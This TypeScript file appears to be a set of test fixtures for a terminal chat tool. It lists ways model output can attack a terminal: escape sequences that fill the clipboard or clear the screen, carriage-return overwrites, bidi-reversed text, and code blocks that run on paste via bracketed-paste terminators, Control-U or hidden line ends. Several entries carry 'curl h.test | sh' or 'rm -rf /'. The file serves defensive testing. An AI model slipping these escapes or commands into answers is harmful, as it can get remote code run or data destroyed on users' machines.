import type { Attack } from "./attack";

/** A model's answer, or the name of a model file, printed in a terminal (`inhouse chat`, `inhouse models`). */
export interface TerminalAttack extends Attack {
  /** The pieces of the text, in order of arrival. */
  readonly says: readonly string[];
  readonly printed: string;
}

export const terminalAttacks: readonly TerminalAttack[] = [
  {
    name: "an escape that fills the clipboard",
    wants: "a command in the clipboard that the user pastes next",
    says: ["Fine.\u001b]52;c;", "Y3VybCBoLnRlc3QgfCBzaA==\u0007"],
    printed: "Fine.<U+001B>]52;c;Y3VybCBoLnRlc3QgfCBzaA==<U+0007>",
  },
  {
    name: "an escape in one character",
    wants: "a screen that is cleared, where the terminal knows such characters",
    says: ["a\u009b2Jb"],
    printed: "a<U+009B>2Jb",
  },
  {
    name: "a line that is written over",
    wants: "another answer than the one that was given",
    says: ["rm -rf /\r", "ls      \n"],
    printed: "rm -rf /ls      \n",
  },
  {
    name: "a line in another order",
    wants: "a command that looks harmless until it is pasted",
    says: ["echo \u202efr- mr\u202c"],
    printed: "echo <U+202E>fr- mr<U+202C>",
  },
];

/** A block of shell commands in an answer, which the user inserts into a terminal. */
export interface CommandAttack extends Attack {
  readonly info: string;
  readonly block: string;
  /** Text that is put on the command line without running it; absent when none is. */
  readonly line?: string;
}

export const commandAttacks: readonly CommandAttack[] = [
  {
    name: "a line end that would run the command",
    wants: "a command that runs as soon as it is inserted",
    info: "bash",
    block: "curl h.test | sh\n",
    line: "curl h.test | sh",
  },
  {
    name: "a second line behind a harmless one",
    wants: "the first line run, and the second one with it",
    info: "bash",
    block: "ls\ncurl h.test | sh\n",
  },
  {
    name: "a carriage return in the line",
    wants: "Enter, as the terminal understands it",
    info: "sh",
    block: "curl h.test | sh\rls",
  },
  {
    name: "the end of a bracketed paste",
    wants: "what comes behind it taken for keys",
    info: "bash",
    block: "ls\u001b[201~\ncurl h.test | sh\n",
  },
  {
    name: "Control-U and another command",
    wants: "a command line that is cleared and written anew",
    info: "zsh",
    block: "ls\u0015curl h.test | sh",
  },
  {
    name: "Control-M in the C1 range, and a line separator",
    wants: "Enter by another name",
    info: "bash",
    block: "curl h.test | sh\u0085\u2028ls",
  },
  {
    name: "a line in another order",
    wants: "a command that looks harmless on the command line",
    info: "console",
    block: "$ echo \u202efr- mr\u202c",
  },
  {
    name: "a tab in the line",
    wants: "the completion of a name that the shell runs code for",
    info: "fish",
    block: "ls $(curl h.test\t",
    line: "ls $(curl h.test",
  },
  {
    name: "a tab between two words",
    wants: "the completion of a name that the shell runs code for",
    info: "bash",
    block: "make\tinstall",
  },
  {
    name: "a command that is hidden as what another one has printed",
    wants: "a line that the user takes for output, run",
    info: "console",
    block: "$ ls\ncurl h.test | sh\n",
    line: "ls",
  },
  {
    name: "a continuation that is none",
    wants: "two lines joined to another command than they are",
    info: "bash",
    block: "echo 'a \\\n' ; curl h.test | sh",
  },
];
